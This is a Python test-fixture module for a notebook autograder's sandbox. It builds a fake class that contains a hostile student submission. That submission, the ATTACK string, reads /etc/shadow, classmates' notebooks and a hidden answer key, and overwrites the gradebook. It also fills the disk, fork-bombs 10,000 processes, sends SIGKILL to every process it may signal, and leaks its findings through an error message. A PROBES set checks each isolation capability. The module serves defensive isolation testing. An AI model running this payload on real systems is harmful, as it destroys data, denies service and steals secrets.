"""The class-level hostile corpus: a student who attacks the class, the
grader and the machine, and probes of what student code can do.

* ``ATTACK``: an answer cell that, while its notebook loads, looks for
  the class (the mount table, every process's command line), reads its
  classmates' notebooks, an answer key kept elsewhere on disk and
  ``/etc/shadow``, overwrites the classmates' notebooks, the gradebook and
  their results, writes into the home folder ``pwd`` names, fills the
  disk, starts 10,000 processes and sends SIGKILL to every process it may
  signal; then its ``sigmoid`` raises an error that carries everything it
  found, which is how a student would smuggle it into results.json and
  the feedback pages.  It is told where the class, the output folder and
  the key are (``{class}``, ``{out}``, ``{key}``): a student who guessed.
* ``PROBES``: one function per capability of the isolation table of
  docs/grading.md, each deciding yes or no without harming anything but
  the probe's own files.
* ``build_class``: a class of three (a hostile student between two
  honest ones, one with a mistake), each honest notebook opening with a
  secret of its own, and an answer key outside the class.
"""
from __future__ import annotations

import hashlib
import json
import re
import uuid
from dataclasses import dataclass
from pathlib import Path

from . import builders

STAGE = "01_activations"
HOSTILE = "mallory"
CLASSMATES = ("alice", "zoe")        # graded before and after the hostile student
ISOLATION_SECTION = "## Isolation"

ATTACK = r'''
import os, pwd, signal, time
FOUND = []

def _read(path, limit=400):
    try:
        with open(path, errors="replace") as handle:
            return handle.read(limit)
    except OSError as error:
        return "<" + type(error).__name__ + ">"

def _write(path, text):
    try:
        with open(path, "w") as handle:
            handle.write(text)
        return 1
    except OSError:
        return 0

# Where is the class?  The mount table, and every process's command line.
seen = set()
try:
    seen.update(line.split()[4] for line in open("/proc/self/mountinfo"))
except OSError:
    pass
for pid in (os.listdir("/proc") if os.path.isdir("/proc") else []):
    try:
        seen.update(arg for arg in open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
                    if arg.startswith("/"))
    except OSError:
        pass
FOUND.append("DISCOVERED=" + "|".join(sorted(path for path in seen if "{class}" in path or "{out}" in path)))

# What the classmates wrote, an answer key, the machine's passwords.
notebooks = []
for root, folders, files in os.walk("{class}"):
    if "/{hostile}" not in root + "/":
        notebooks += [os.path.join(root, name) for name in files if name.endswith(".ipynb")]
FOUND += ["KEY=" + _read("{key}"), "SHADOW=" + _read("/etc/shadow", 120)]
FOUND += ["CLASSMATE=" + _read(path) for path in notebooks]

# Break the classmates' work and the gradebook.
wrecked = sum(_write(path, "this notebook was overwritten by a classmate") for path in notebooks)
for root, folders, files in os.walk("{out}"):
    for name in files:
        wrecked += _write(os.path.join(root, name), '{"score": 1000}')
FOUND.append(f"WRECKED={wrecked}")

# Leave a file in the home folder that pwd names.
home = pwd.getpwuid(os.getuid()).pw_dir
FOUND.append(f"HOME={home}:{_write(os.path.join(home, '{marker}'), 'left by a student')}")

# Fill the disk (one MiB per file: RLIMIT_FSIZE caps a single file).
filled, chunk = 0, b"x" * (1 << 20)
for number in range(1 << 16):
    try:
        with open(os.path.join(os.environ.get("HOME", "."), f"fill-{number}"), "wb") as handle:
            handle.write(chunk)
    except OSError:
        break
    filled += len(chunk)
FOUND.append(f"FILLED={filled}")

# Start 10,000 processes.
forked = 0
for _ in range(10000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
    forked += 1
FOUND.append(f"FORKED={forked}")

# SIGKILL to every process it may signal.
try:
    os.kill(-1, signal.SIGKILL)
    FOUND.append("KILLED=all it may signal")
except OSError as error:
    FOUND.append("KILLED=" + type(error).__name__)

def sigmoid(z):
    raise ValueError("; ".join(FOUND))
'''

PROBES = r'''
import errno, os, pwd, signal, socket, time

def finds_class(class_root):
    """The class folder named in the mount table or a process's command line."""
    texts = []
    try:
        texts.append(open("/proc/self/mountinfo").read())
    except OSError:
        pass
    for pid in (os.listdir("/proc") if os.path.isdir("/proc") else []):
        try:
            texts.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return any(class_root in text for text in texts)

def reads(path):
    try:
        with open(path, errors="replace") as handle:
            return handle.read(200)
    except OSError:
        return ""

def writes(folder, name):
    try:
        with open(os.path.join(folder, name), "w") as handle:
            handle.write("probe")
        return True
    except OSError:
        return False

def may_change(paths):
    """Opens a file for writing (appending nothing: the file is left as it was)."""
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            return True
        except OSError:
            pass
    return False

def writes_home(name):
    return writes(pwd.getpwuid(os.getuid()).pw_dir, name)

def kernel_settings():
    return any(os.access(path, os.W_OK) for path in ("/proc/sys/kernel/pid_max", "/proc/sysrq-trigger"))

def network(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            return True
    except OSError:
        return False

def sees_process(pid, marker):
    try:
        return marker in open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")
    except OSError:
        return False

def processes(count):
    children = []
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return len(children)

def fills(limit):
    written, chunk = 0, b"x" * (1 << 20)
    for number in range(limit // len(chunk) + 8):
        try:
            with open(os.path.join(os.environ["HOME"], f"probe-fill-{number}"), "wb") as handle:
                handle.write(chunk)
        except OSError:
            break
        written += len(chunk)
    for number in range(limit // len(chunk) + 8):
        try:
            os.remove(os.path.join(os.environ["HOME"], f"probe-fill-{number}"))
        except OSError:
            pass
    return written

def kill_everything():
    try:
        os.kill(-1, signal.SIGKILL)
        return True
    except OSError:          # ESRCH: nothing it may signal
        return False
'''


@dataclass
class Class:
    """A class laid out on disk, and the secrets nobody's code may reach."""
    root: Path
    out: Path
    key: Path
    secrets: dict[str, str]        # what must never reach the hostile student's results: name -> secret

    def folder(self, student: str) -> Path:
        return self.root / student


def _with_secret(notebook: dict, secret: str) -> dict:
    cell = {"cell_type": "markdown", "metadata": {}, "source": f"My notes, not to share: {secret}"}
    return {**notebook, "cells": [cell, *notebook["cells"]]}


def build_class(work: Path, marker: str) -> Class:
    """Three students under ``work/class``, the output folder
    ``work/graded`` and an answer key in ``work/elsewhere``."""
    root, out, elsewhere = work / "class", work / "graded", work / "elsewhere"
    elsewhere.mkdir(parents=True)
    secrets = {"key": f"answer-key-{uuid.uuid4().hex}"}
    key = elsewhere / "answer_key.txt"
    key.write_text(secrets["key"] + "\n")
    honest = {"alice": builders.solution(STAGE),
              "zoe": builders.edit_answer(builders.solution(STAGE), "relu", "np.maximum(0.0, z)",
                                          "np.maximum(0.0, -z)")}
    for name, notebook in honest.items():
        secrets[name] = f"secret-of-{name}-{uuid.uuid4().hex}"
        builders.write(_with_secret(notebook, secrets[name]), root / name, STAGE)
    attack = (ATTACK.replace("{class}", str(root)).replace("{out}", str(out)).replace("{key}", str(key))
              .replace("{hostile}", HOSTILE).replace("{marker}", marker))
    builders.write(builders.replace_answer(builders.solution(STAGE), "sigmoid", attack), root / HOSTILE, STAGE)
    return Class(root, out, key, secrets)


def snapshot(folder: Path) -> dict[str, str]:
    """{relative path: sha256} of every file under ``folder``."""
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file()}


def found(text: str, name: str) -> str:
    """What the hostile student reported as ``NAME=...`` in its messages."""
    match = re.search(rf"\b{name}=([^;\n]*)", text)
    return match.group(1) if match else ""


# ---------------------------------------------------------------- the isolation table

def isolation_table(doc: Path) -> dict[str, dict[str, str]]:
    """docs/grading.md's table of what student code can do: {capability
    key: {column: "yes"/"no"}}, the key being the code in the first cell."""
    text = doc.read_text(encoding="utf-8")
    section = text[text.index(ISOLATION_SECTION):]
    start = section.index("| student code")
    lines = []
    for line in section[start:].splitlines():
        if not line.startswith("|"):
            break
        lines.append([cell.strip() for cell in line.strip("|").split("|")])
    header, rows = lines[0], lines[2:]
    table = {}
    for row in rows:
        key = re.findall(r"\(`([a-z-]+)`\)", row[0])[-1]
        table[key] = {column: cell.split()[0].strip("*").lower() for column, cell in zip(header[1:], row[1:])}
    return table


def column_for(mode: str, root: bool) -> str:
    """The table's column for a mode, as the tests run it."""
    who = "root" if root else "a user"
    return {"namespaces": f"namespaces, {who}", "user-namespace": f"user namespace, {who}",
            "basic": f"basic, {who}"}[mode]


def dump(value) -> str:
    return json.dumps(value, sort_keys=True)
